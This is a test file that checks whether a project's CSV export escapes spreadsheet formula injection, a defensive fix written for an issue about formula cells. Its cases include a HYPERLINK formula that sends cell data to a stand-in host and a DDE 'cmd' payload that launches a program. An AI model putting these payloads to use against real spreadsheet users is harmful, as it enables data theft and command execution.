import { describe, expect, it } from 'vitest';
import { csvCell } from '../../core/csv.ts';
import { csvCell as windowCsvCell, toCsv } from '../../renderer/components/compare/export-data.ts';

// Issue #10: CSV exports (the CLI's and the charts') kept =, + and @ formula cells, which a
// spreadsheet runs when the file is opened.

const CASES: [string | number | null, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
  ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['Putin sends aid to Italy', 'Putin sends aid to Italy'],
  ['a, b', '"a, b"'],
  ['say "aid"', '"say ""aid"""'],
  [-1.5, '-1.5'],
  [42, '42'],
  [null, ''],
];

describe('CSV cells', () => {
  it.each(CASES)('%j is written as %s, in the CLI export and in the window alike', (value, written) => {
    expect(csvCell(value)).toBe(written);
    expect(windowCsvCell(value)).toBe(written);
  });

  it('neutralises formulas in chart data', () => {
    expect(
      toCsv([
        ['outlet', 'share'],
        ['=evil()', 0.5],
      ]),
    ).toBe("outlet,share\r\n'=evil(),0.5\r\n");
  });
});
